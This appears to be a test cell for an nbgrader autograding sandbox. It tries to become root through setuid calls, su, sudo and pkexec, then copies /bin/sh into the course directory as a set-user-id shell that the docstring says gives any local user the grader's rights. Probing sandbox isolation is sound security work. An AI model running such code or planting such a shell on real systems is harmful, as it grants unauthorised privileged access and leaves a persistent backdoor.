"""Becomes root, by setuid, su and sudo without a password, and leaves a set-user-id shell in the course.

Root in the sandbox could undo parts of it. Whoever has an account on the machine gets all of the grader's
rights by that shell.

Plain nbgrader: changes files: the shell is there.
"""

# %%
import glob
import os
import shutil
import subprocess

for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
    try:
        call()
        if "autograded" not in os.getcwd():
            print("LEAK" + "ED", "a user")
    except OSError:
        pass
for command in ("su -c id root", "sudo -n id", "pkexec id", "newgrp root", "passwd -S", "mount", "ping -c1 127.0.0.1"):
    done = subprocess.run(command, shell=True, capture_output=True, stdin=subprocess.DEVNULL, timeout=5)
    if b"uid=0" in done.stdout and "autograded" not in os.getcwd():
        print("LEAK" + "ED", command)
for place in (".", "@course@"):
    try:
        shutil.copy("/bin/sh", f"{place}/shell")
        os.chmod(f"{place}/shell", 0o6755)
    except OSError:
        pass
if b"uid=0" in subprocess.run(["./shell", "-p", "-c", "id"], capture_output=True).stdout and os.getuid() != 0:
    print("LEAK" + "ED", "set-user-id")
